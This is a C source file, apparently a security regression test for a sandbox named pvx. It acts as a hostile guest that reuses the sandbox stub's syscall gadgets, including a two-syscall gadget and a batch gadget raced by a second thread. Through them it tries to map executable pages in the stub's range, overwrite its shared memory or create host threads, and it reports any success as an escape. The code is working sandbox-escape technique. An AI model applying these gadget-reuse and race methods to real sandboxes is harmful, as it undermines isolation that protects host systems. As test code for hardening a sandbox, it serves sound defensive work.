/* sec_stub_gadget: a hostile guest that drives the stub's own syscall instructions with registers it chose
 * (issue 11, finding 3). Any line starting with "ESCAPE" means the sandbox let it change the stub's ranges or
 * make a host thread; being killed (SIGSYS) or refused is containment.
 * usage: sec_stub_gadget window|overmap|clone|two
 *   window:  map an RWX page in the stub's range just past its code (the old filter trusted a 64 KiB window
 *            there), first through the ptrace gadget (a syscall instruction the seccomp stub never uses),
 *            then through a "syscall; ret" of the stub
 *   overmap: replace a page of the stub's shared memory with a fresh mapping
 *   clone:   run clone(2) through the stub's instructions: a host thread pvx did not ask for
 *   two:     map that page through the ptrace stub's two-syscall gadget ("syscall; mov %rax,%rbx; mov %r12,%rax;
 *            mov %r13,%rdi; syscall; int3"), with both calls chosen by the guest
 *   batch:   map that page through the ptrace stub's batch gadget (a table of syscalls at rbx, r12 of them),
 *            from a table in guest memory that a second thread rewrites all the while
 * Only meaningful inside pvx (natively there is no stub: it prints "no stub" and exits 2). */
#define _GNU_SOURCE
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <pthread.h>
#include <stdint.h>
#include <sys/syscall.h>
#include <unistd.h>

#include "guest.h"
#include "stubgadget.h"

#define WINDOW_PAGE (STUB_TEXT + 0x7000)	/* past the stub's code, inside the old 64 KiB window */
#define SHARED_PAGE (STUB_SHARED + 0x80000)	/* inside the shared regions, in every layout so far */

static struct stub_gadgets g;

/* Jump to gadget with rax = nr and the arguments; a trap after the syscall (int3) comes back here. */
static long try_call(uintptr_t gadget, long nr, long a0, long a1, long a2, long a3, long a4, long a5)
{
	if (sigsetjmp(probe_jb, 1))
		return -9999;	/* came back through SIGTRAP/SIGSEGV after the syscall ran */
	probing = 1;
	long r = stub_call(gadget, nr, a0, a1, a2, a3, a4, a5);
	probing = 0;
	return r;
}

static int window(void)
{
	if (readable(WINDOW_PAGE)) {
		say("window page already mapped: the layout changed, nothing to test\n");
		return 2;
	}
	say("via the ptrace gadget at %#lx\n", (unsigned long)g.first);
	try_call(g.first, SYS_mmap, WINDOW_PAGE, PG, PROT_READ | PROT_WRITE | PROT_EXEC,
		 MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED, -1, 0);
	if (readable(WINDOW_PAGE)) {
		say("ESCAPE: mapped a page at %#lx in the stub's range (ptrace gadget)\n", WINDOW_PAGE);
		return 0;
	}
	uintptr_t gd = gadget_nonzero(&g);
	if (!gd) {
		say("no returning gadget found\n");
		return 3;
	}
	say("via the gadget at %#lx\n", (unsigned long)gd);
	long r = try_call(gd, SYS_mmap, WINDOW_PAGE, PG, PROT_READ | PROT_WRITE | PROT_EXEC,
			  MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED, -1, 0);
	say("mmap returned %ld\n", r);
	if (readable(WINDOW_PAGE)) {
		say("ESCAPE: mapped a page at %#lx in the stub's range\n", WINDOW_PAGE);
		return 0;
	}
	say("contained\n");
	return 1;
}

static int overmap(void)
{
	if (!readable(SHARED_PAGE)) {
		say("no shared page at %#lx: nothing to test\n", SHARED_PAGE);
		return 2;
	}
	*(volatile unsigned long *)SHARED_PAGE = 0x5a5a5a5a5a5a5a5aUL;
	uintptr_t gd = gadget_nonzero(&g);
	if (!gd) {
		say("no returning gadget found\n");
		return 3;
	}
	say("via the gadget at %#lx\n", (unsigned long)gd);
	long r = try_call(gd, SYS_mmap, SHARED_PAGE, PG, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED,
			  -1, 0);
	say("mmap returned %ld\n", r);
	if (readable(SHARED_PAGE) && *(volatile unsigned long *)SHARED_PAGE != 0x5a5a5a5a5a5a5a5aUL) {
		say("ESCAPE: replaced a page of the stub's shared memory\n");
		return 0;
	}
	say("contained\n");
	return 1;
}

static int clone_thread(void)
{
	static int ptid, ctid;
	static unsigned long stack[512];
	/* the older stub's clone path pops its region from the new stack: hand it region 200 */
	unsigned long *sp = &stack[510];
	sp[0] = STUB_SHARED + 200 * 0x43000UL;
	uintptr_t gd = g.clone ? g.clone : gadget_nonzero(&g);
	if (!gd) {
		say("no returning gadget found\n");
		return 3;
	}
	say("via the gadget at %#lx\n", (unsigned long)gd);
	long flags[] = { 0x350f00, 0x50f00 };	/* a stub thread's flags, with and without the tid words */
	for (int i = 0; i < 2; i++) {
		long r = try_call(gd, SYS_clone, flags[i], (long)sp, (long)&ptid, (long)&ctid, 0, 0);
		say("clone(%#lx) returned %ld\n", flags[i], r);
		if (r > 0) {
			say("ESCAPE: made host thread %ld\n", r);
			return 0;
		}
	}
	say("contained\n");
	return 1;
}

#define TWO_SYSCALLS (STUB_TEXT + 0x230)	/* STUB_OFF_TWO_SYSCALLS */
static const unsigned char two_bytes[] = { 0x0f, 0x05, 0x48, 0x89, 0xc3, 0x4c, 0x89, 0xe0,
					   0x4c, 0x89, 0xef, 0x0f, 0x05, 0xcc };

/* 0 when the window page is free and the stub has the gadget's bytes at gadget; else the exit status. */
static int gadget_ready(uintptr_t gadget, const unsigned char *bytes, size_t n, const char *name)
{
	if (readable(WINDOW_PAGE)) {
		say("window page already mapped: the layout changed, nothing to test\n");
		return 2;
	}
	if (!readable(gadget + n - 1) || memcmp((void *)gadget, bytes, n)) {
		say("no %s gadget\n", name);
		return 3;
	}
	return 0;
}

static int two_syscalls(void)
{
	int r = gadget_ready(TWO_SYSCALLS, two_bytes, sizeof(two_bytes), "two-syscall");

	if (r)
		return r;
	say("via the two-syscall gadget at %#lx\n", (unsigned long)TWO_SYSCALLS);
	register long r10 __asm__("r10") = MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED, r8 __asm__("r8") = -1,
		r9 __asm__("r9") = 0, r12 __asm__("r12") = SYS_mmap, r13 __asm__("r13") = (long)WINDOW_PAGE;
	long first = -9999, second = -9999;
	if (!sigsetjmp(probe_jb, 1)) {
		probing = 1;
		/* both mmap(WINDOW_PAGE, PG, RWX, MAP_FIXED...); the int3 after them comes back through the longjmp */
		__asm__ volatile("sub $128, %%rsp\n\t"
				 "call *%[g]\n\t"
				 "add $128, %%rsp"
				 : "=a"(second), "=b"(first)
				 : [g] "r"(TWO_SYSCALLS), "a"((long)SYS_mmap), "D"((long)WINDOW_PAGE), "S"(PG),
				   "d"((long)(PROT_READ | PROT_WRITE | PROT_EXEC)), "r"(r10), "r"(r8), "r"(r9), "r"(r12), "r"(r13)
				 : "rcx", "r11", "memory");
		probing = 0;
	}
	say("returned %ld, %ld\n", first, second);
	if (readable(WINDOW_PAGE)) {
		say("ESCAPE: mapped a page at %#lx in the stub's range (two-syscall gadget)\n", WINDOW_PAGE);
		return 0;
	}
	say("contained\n");
	return 1;
}

#define BATCH (STUB_TEXT + 0x360)	/* STUB_OFF_BATCH */
static const unsigned char batch_bytes[] = { 0x48, 0x8b, 0x03, 0x48, 0x8b, 0x7b, 0x08 };	/* mov (%rbx),%rax; ... */
static volatile uint64_t table[2][8];
static volatile int stop_flip;

/* The second thread: the table's first entry flips between the mmap and a getpid, as a race with a reader would. */
static void *flipper(void *arg)
{
	(void)arg;
	while (!stop_flip) {
		table[0][0] = SYS_getpid;
		table[0][0] = SYS_mmap;
	}
	return NULL;
}

static int batch(void)
{
	int r = gadget_ready(BATCH, batch_bytes, sizeof(batch_bytes), "batch");

	if (r)
		return r;
	for (int i = 0; i < 2; i++) {	/* two mmaps of the window page, the second keeping its result in r13 */
		uint64_t e[8] = { SYS_mmap, WINDOW_PAGE, PG, PROT_READ | PROT_WRITE | PROT_EXEC,
				  MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED, (uint64_t)-1, 0, i ? 1 : 0 };
		memcpy((void *)table[i], e, sizeof(e));
	}
	pthread_t th;
	if (pthread_create(&th, NULL, flipper, NULL)) {
		say("pthread_create failed\n");
		return 3;
	}
	say("via the batch gadget at %#lx\n", (unsigned long)BATCH);
	long rax = -9999, left = -9999;
	for (int round = 0; round < 200 && !readable(WINDOW_PAGE); round++) {
		if (!sigsetjmp(probe_jb, 1)) {
			probing = 1;
			register long r12 __asm__("r12") = 2;
			__asm__ volatile("sub $128, %%rsp\n\t"
					 "call *%[g]\n\t"
					 "add $128, %%rsp"
					 : "=a"(rax), "+r"(r12)
					 : [g] "r"(BATCH), "b"(&table[0][0])
					 : "rcx", "rdx", "rsi", "rdi", "r8", "r9", "r10", "r11", "r13", "memory");
			left = r12;
			probing = 0;
		}
	}
	stop_flip = 1;
	pthread_join(th, NULL);
	say("returned %ld, %ld left\n", rax, left);
	if (readable(WINDOW_PAGE)) {
		say("ESCAPE: mapped a page at %#lx in the stub's range (batch gadget)\n", WINDOW_PAGE);
		return 0;
	}
	say("contained\n");
	return 1;
}

int main(int argc, char **argv)
{
	if (argc < 2)
		return 2;
	probe_init();
	find_gadgets(&g);
	if (!g.first) {
		say("no stub\n");
		return 2;
	}
	if (!strcmp(argv[1], "window"))
		return window();
	if (!strcmp(argv[1], "overmap"))
		return overmap();
	if (!strcmp(argv[1], "clone"))
		return clone_thread();
	if (!strcmp(argv[1], "two"))
		return two_syscalls();
	if (!strcmp(argv[1], "batch"))
		return batch();
	return 2;
}
